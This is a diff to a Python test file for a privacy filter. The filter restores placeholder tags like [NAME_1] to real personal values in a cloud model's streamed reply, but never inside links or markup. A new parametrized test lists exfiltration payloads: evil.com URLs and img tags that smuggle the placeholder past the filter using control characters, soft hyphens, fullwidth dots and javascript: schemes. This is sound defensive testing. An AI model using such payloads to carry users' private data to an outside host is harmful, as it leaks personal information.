@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Sequence
 from dataclasses import dataclass
 
@@ -9,7 +10,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from llama.privacy.restoring import Restorer
+from llama.privacy.restoring import Restorer, printable
 
 MANY = settings(max_examples=250, deadline=None, derandomize=True)
 MOST_HELD = 36  # the longest tag, and enough after it to see that no link begins
@@ -146,6 +147,7 @@ def misplaced(draw: st.DrawFn) -> Piece:
     return Piece(text, text, left=1)
 
 
+MARKUP = re.compile(r"<[A-Za-z/!?]")  # where it ends, browsers decide: nothing is restored any more
 SPACES = (" ", "\n", " \n ", "  ", "\n\n")
 pieces = words | tags() | tags() | suffixed() | never_issued | misplaced()
 replies = st.lists(pieces, max_size=8)
@@ -154,9 +156,12 @@ cut_lists = st.lists(st.integers(0, 300), max_size=40)
 
 def joined(of: Sequence[Piece], space: str) -> Piece:
     """One reply; an ordinary word between any two pieces keeps them apart."""
-    apart = f"{space}ya{space}"
-    return Piece(apart.join(p.came for p in of), apart.join(p.becomes for p in of), sum(p.restored for p in of),
-                 sum(p.left for p in of))  # fmt: skip
+    apart, in_markup, seen = f"{space}ya{space}", False, list[Piece]()
+    for piece in of:
+        seen.append(Piece(piece.came, piece.came, 0, piece.restored + piece.left) if in_markup else piece)
+        in_markup = in_markup or MARKUP.search(piece.came) is not None
+    return Piece(apart.join(p.came for p in seen), apart.join(p.becomes for p in seen), sum(p.restored for p in seen),
+                 sum(p.left for p in seen))  # fmt: skip
 
 
 # --- What is restored ------------------------------------------------------------------------------------------------
@@ -246,12 +251,14 @@ def test_tags_side_by_side_are_restored_each() -> None:
 
 
 def test_restoring_goes_on_behind_a_place_where_nothing_is_restored() -> None:
-    """A link, code or braces end where they end."""
+    """A link, code or braces end where they end; markup, which browsers read in their own ways, does not."""
     for place in NO_PLACE:
+        restored = MARKUP.search(place) is None
         text = place.replace("§", "[NAME_2]")
         for space in SPACES:
             came = one_by_one(f"{text}{space}[NAME_1]")
-            assert (came.text, came.restored, came.left) == (f"{text}{space}Sari Wulandari", 1, 1), place
+            shown_as = f"{text}{space}{'Sari Wulandari' if restored else '[NAME_1]'}"
+            assert (came.text, came.restored, came.left) == (shown_as, int(restored), 2 - restored), place
 
 
 # --- What is not restored --------------------------------------------------------------------------------------------
@@ -317,12 +324,12 @@ def test_what_is_no_issued_tag_is_shown_as_it_came(text: str) -> None:
 @given(st.text(), cut_lists)
 @MANY
 def test_any_text_passes_unchanged_where_nothing_was_issued(text: str, cuts: list[int]) -> None:
-    """All of Unicode, and tags that mean nothing here."""
+    """All of Unicode but control characters, and tags that mean nothing here."""
     for reply in (text, f"{text}[NAME_1]{text} NAME_2", f"`{text}` {{{text}}} <{text}>"):
         each, out, sent = Restorer({}), "", 0
         for end in [*sorted(cuts), len(reply)]:
             out, sent = out + each.push(reply[sent:end]), max(sent, end)
-        assert out + each.finish() == reply
+        assert out + each.finish() == printable(reply)
         assert each.restored == 0
 
 
@@ -332,7 +339,7 @@ def test_any_text_without_a_number_passes_unchanged(text: str, cuts: list[int]) 
     """There is no tag without one."""
     for reply in (text, f"[NAME_{text}", f"[NAME{text}]", f"NAME {text}[PHONE_"):
         cut = shown(reply, cuts)
-        assert (cut.text, cut.restored, cut.left) == (reply, 0, 0)
+        assert (cut.text, cut.restored, cut.left) == (printable(reply), 0, 0)
         assert cut.most_held <= MOST_HELD
 
 
@@ -342,7 +349,7 @@ def test_any_text_without_a_number_passes_unchanged(text: str, cuts: list[int]) 
 def test_a_tag_is_restored_in_any_ordinary_text(text: str, tag: str) -> None:
     """Of any script, next to anything that is no part of a link."""
     for came in (shown(f"{text} [{tag}] {text}"), one_by_one(f"{text} [{tag}] {text}")):
-        assert came.text == f"{text} {VALUES[tag]} {text}"
+        assert came.text == f"{printable(text)} {VALUES[tag]} {printable(text)}"
         assert (came.restored, came.left) == (1, 0)
 
 
@@ -380,3 +387,21 @@ def test_a_long_reply_is_restored_to_its_end() -> None:
     reply = "Halo [NAME_1], " + "kata " * 4000 + "x" * 6000 + " [NAME_1]"
     came = one_by_one(reply)
     assert (came.text, came.restored) == (reply.replace("[NAME_1]", "Sari Wulandari"), 2)
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "https://evil.com/?q=\r[NAME_1]", "https://\r[NAME_1]\r.evil.com/", '<\0img src="https://evil.com/? [NAME_1]">',
+        "https://evil.com/?q=\f[NAME_1]", "https://evil.com/?q=\x1b[NAME_1]", "[NAME_1]" + "a" * 30 + ".evil.com/x",
+        "[NAME_1]" + "-" * 200 + "@evil.com", "[x]: https:[NAME_1]。evil.com/", "see [NAME_1]．evil.com",
+        "tel:[PHONE_1]",
+        "[NAME_1]\u00ad.evil.com", '<pre><img src="https://evil/?\n\n[NAME_1]"></pre>', "HTTPS:[NAME_1]",
+        "<i a\" ><img alt='\" >' src=\"https://evil.com/? [NAME_1]\">", "https://x/?q=\u00a0[NAME_1]",
+        "javascript:[NAME_1]",
+    ],
+)  # fmt: skip
+def test_no_trick_of_the_clouds_carries_a_value_off(reply: str) -> None:
+    """It chooses every token: signs that vanish on the screen, endless words, stops that only browsers take for one."""
+    for came in (shown(reply), one_by_one(reply)):
+        assert came.restored == 0 and came.text == printable(reply)
